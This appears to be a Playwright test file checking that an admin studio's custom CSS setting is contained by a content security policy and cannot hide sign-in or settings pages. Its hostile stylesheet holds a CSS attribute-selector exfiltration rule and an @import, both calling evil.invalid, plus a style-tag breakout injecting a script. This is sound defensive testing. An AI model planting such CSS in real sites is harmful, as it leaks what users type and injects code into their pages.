import { expect, test } from '@playwright/test'
import { field, people, saveAndStay, signIn } from './studio.ts'

/** A hostile style: it tries to load another one, to send typed text away, and to cover the whole page. */
const hostile = `
  @import url(https://evil.invalid/more.css);
  h1 { color: rgb(1, 2, 3) !important; }
  input[value^='a'] { background: url(https://evil.invalid/a); }
  h1 { background: url(https://evil.invalid/h1); }
  </style><script>window.pwned = true</script>
`

test('applies custom CSS without external resources, and can be disabled (P-098, X-07)', async ({ page, request }) => {
  const login = await request.post('/auth/login', { data: people.admin })
  const { access_token: token } = (await login.json()).data
  const save = (custom_css: string | null) =>
    request.patch('/settings', { data: { custom_css }, headers: { authorization: `Bearer ${token}` } })
  const ends: (string | undefined)[] = []
  page.on('requestfailed', each => {
    if (each.url().includes('evil.invalid')) ends.push(each.failure()?.errorText)
  })
  const appliedColor = () => page.locator('h1').evaluate(heading => getComputedStyle(heading).color)
  expect((await save(hostile)).ok()).toBe(true)
  try {
    await page.goto('/admin/login')
    await expect(page.getByLabel('Email')).toBeVisible()
    expect(await page.evaluate(() => document.adoptedStyleSheets.length)).toBe(0)
    await signIn(page, 'admin')
    await page.goto('/admin/collections')
    await expect.poll(appliedColor).toBe('rgb(1, 2, 3)')
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    await page.goto('/admin/collections?safe=1')
    await expect(page.locator('h1')).toBeVisible()
    expect(await appliedColor()).not.toBe('rgb(1, 2, 3)')
    // The policy of the page blocks them, not a missing network; the other style is not even requested.
    expect(ends).toEqual(['csp'])
  } finally {
    await save(null)
  }
})

test('keeps sign-in and project settings visible when custom CSS hides everything', async ({ page, request }) => {
  const login = await request.post('/auth/login', { data: people.admin })
  const { access_token: token } = (await login.json()).data
  const headers = { authorization: `Bearer ${token}` }
  const settings = () => request.get('/settings?fields=custom_css', { headers }).then(answer => answer.json())
  const hidden = '* { display: none !important }'
  expect((await request.patch('/settings', { data: { custom_css: hidden }, headers })).ok()).toBe(true)
  try {
    await page.goto('/admin/login')
    await page.getByLabel('Email').fill(people.admin.email)
    await page.getByLabel('Password').fill(people.admin.password)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await expect(page).not.toHaveURL(/\/login/)
    await page.goto('/admin/collections')
    await expect(page.locator('h1')).toHaveCount(1)
    await expect(page.locator('h1')).toBeHidden()

    await page.goto('/admin/settings/project')
    const style = field(page, 'custom_css').getByRole('textbox')
    await expect(style).toContainText(hidden)
    await style.fill('h1 { color: rgb(1, 2, 3) }')
    await saveAndStay(page)
    expect(await settings()).toEqual({ data: { custom_css: 'h1 { color: rgb(1, 2, 3) }' } })
    await expect(page.locator('h1')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
    // On every other page the style applies, without a reload.
    await page.getByRole('link', { name: 'Data model' }).click()
    await expect(page.locator('h1')).toHaveCSS('color', 'rgb(1, 2, 3)')
  } finally {
    await request.patch('/settings', { data: { custom_css: null }, headers })
  }
})
